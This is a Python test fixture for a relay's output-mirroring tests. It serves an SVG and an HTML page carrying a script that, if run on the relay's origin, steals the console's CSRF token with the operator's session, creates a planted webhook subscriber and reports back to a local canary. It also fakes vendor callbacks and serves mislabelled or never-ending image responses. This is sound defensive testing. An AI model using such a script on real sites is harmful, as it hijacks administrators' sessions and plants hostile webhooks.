"""A host of vendor "results" for the mirroring tests of issue 19, on a real loopback server, and a way to
plant any output URLs on a job the way a vendor (or a forger holding a callback URL) would.

:class:`OutputHost` serves:

- ``/evil.svg``: an SVG with a script (``image/svg+xml``), and ``/result``: an HTML page with a script
  (``text/html``, no image extension): each script, if it ever runs on the relay's origin, calls
  ``/canary`` synchronously, then tries what the issue's probe did — create a subscriber through the
  console with the operator's session — and reports that to ``/canary`` too;
- ``/img/{name}``: a real 64x48 image made with Pillow, its format from the extension (``.png``,
  ``.jpg``, ``.webp``, ``.gif``, ``.avif``; ``big.webp``: :func:`big_webp`), declared as ``text/plain``
  (the type must come from the bytes);
- ``/drip/{name}``: while :attr:`OutputHost.dripping` is set, a body sending one byte every
  ``drip_every`` seconds and never ending; once cleared, a real PNG at once.

Every request's path is kept in :attr:`OutputHost.requests`, every canary call's query in
:attr:`OutputHost.canary`.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import threading
from collections.abc import AsyncIterator, Mapping
from typing import Any

import httpx
from PIL import Image
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response, StreamingResponse
from starlette.routing import Route

from receiver.fakes.config import source_image
from receiver.fakes.state import FakeState

FORMATS = {"png": "PNG", "jpg": "JPEG", "webp": "WEBP", "gif": "GIF", "avif": "AVIF"}

_SCRIPT = """
var canary = "%(canary)s";
var x = new XMLHttpRequest();
x.open("GET", canary + "?ran=%(name)s", false);
try { x.send(); } catch (e) {}
fetch("/console/subscribers", {credentials: "include"})
  .then(function (r) { return r.text(); })
  .then(function (html) {
    var token = (html.match(/name="csrf_token" value="([^"]+)"/) || [])[1] || "";
    var form = new URLSearchParams({csrf_token: token, url: canary + "/hook", description: "planted",
                                    event_types: "job.succeeded"});
    return fetch("/console/subscribers", {method: "POST", body: form, credentials: "include"});
  })
  .then(function (r) { fetch(canary + "?created=" + r.status, {mode: "no-cors"}); })
  .catch(function (e) { fetch(canary + "?failed=" + encodeURIComponent(String(e)), {mode: "no-cors"}); });
"""


def image_bytes(fmt: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """A real image in Pillow format ``fmt`` (``"PNG"``, ``"WEBP"``, ...)."""
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(out, format=fmt)
    return out.getvalue()


def big_webp() -> bytes:
    """A lossless 900x900 WebP of noise, over 2 MiB: more than the relay reads before it decides a
    copy's type (Pillow opens a WebP only whole)."""
    out = io.BytesIO()
    Image.frombytes("RGB", (900, 900), os.urandom(900 * 900 * 3)).save(out, "WEBP", lossless=True, method=0)
    return out.getvalue()


class OutputHost:
    """The app and what it saw; ``drip_every`` is seconds between two bytes of a drip."""

    def __init__(self, drip_every: float = 1.0) -> None:
        self.drip_every = drip_every
        self.dripping = threading.Event()
        self.dripping.set()
        self.requests: list[str] = []
        self.canary: list[str] = []

    def app(self) -> Starlette:
        return Starlette(
            routes=[
                Route("/evil.svg", self._svg),
                Route("/result", self._html),
                Route("/img/{name}", self._image),
                Route("/drip/{name}", self._drip),
                Route("/canary", self._canary),
                Route("/canary/hook", self._canary, methods=["POST"]),
            ]
        )

    def _script(self, request: Request, name: str) -> str:
        self.requests.append(request.url.path)
        canary = str(request.base_url).rstrip("/") + "/canary"
        return _SCRIPT % {"canary": canary, "name": name}

    async def _svg(self, request: Request) -> Response:
        body = (
            '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48">'
            f'<rect width="64" height="48" fill="red"/><script><![CDATA[{self._script(request, "svg")}]]></script>'
            "</svg>"
        )
        return Response(body, media_type="image/svg+xml")

    async def _html(self, request: Request) -> Response:
        body = f"<!doctype html><title>result</title><p>an image</p><script>{self._script(request, 'html')}</script>"
        return Response(body, media_type="text/html")

    async def _image(self, request: Request) -> Response:
        self.requests.append(request.url.path)
        name = request.path_params["name"]
        if name == "big.webp":
            return Response(big_webp(), media_type="text/plain")
        return Response(image_bytes(FORMATS[name.rsplit(".", 1)[-1]]), media_type="text/plain")

    async def _drip(self, request: Request) -> Response:
        self.requests.append(request.url.path)
        if not self.dripping.is_set():
            return Response(image_bytes("PNG"), media_type="image/png")

        async def drip() -> AsyncIterator[bytes]:
            while True:  # ends when the client goes away or the server stops
                yield b"\x89"
                await asyncio.sleep(self.drip_every)

        return StreamingResponse(drip(), media_type="image/png")

    async def _canary(self, request: Request) -> Response:
        self.canary.append(request.url.query or request.url.path)
        return Response(status_code=204, headers={"access-control-allow-origin": "*"})

    def drips_started(self) -> int:
        """How many drip requests arrived so far."""
        return sum(1 for path in self.requests if path.startswith("/drip/"))


def plant_outputs(
    base: str, headers: Mapping[str, str], fake: FakeState, urls: list[str], reference: str | None = None
) -> dict[str, Any]:
    """Submit an APIXO job the fake never calls back, then post the success callback APIXO would send
    (seed 003: ``resultJson`` with ``resultUrls``) listing ``urls`` on its callback URL; returns the
    job as submitted. Asserts the callback was answered 200."""
    created = httpx.post(
        f"{base}/v1/jobs",
        json={
            "vendor": "apixo",
            "params": {"input": {"image_urls": [source_image("lost")]}},
            "reference": reference,
        },
        headers=dict(headers),
        timeout=30,
    )
    assert created.status_code == 202, created.text
    job: dict[str, Any] = created.json()
    answer = post_apixo_result(fake, job, urls)
    assert answer.status_code == 200, answer.text
    return job


def post_apixo_result(fake: FakeState, job: dict[str, Any], urls: list[str]) -> httpx.Response:
    """POST APIXO's success callback listing ``urls`` to ``job``'s callback URL (found in the fake's
    record of the submit); returns the relay's answer."""
    (record,) = [r for r in fake.submits() if r.job_id == job["vendor_job_id"]]
    body = {
        "code": 200,
        "message": "success",
        "data": {
            "taskId": job["vendor_job_id"],
            "state": "success",
            "resultJson": json.dumps({"resultUrls": urls}),
        },
    }
    return httpx.post(str(record.body["callback_url"]), json=body, timeout=30)
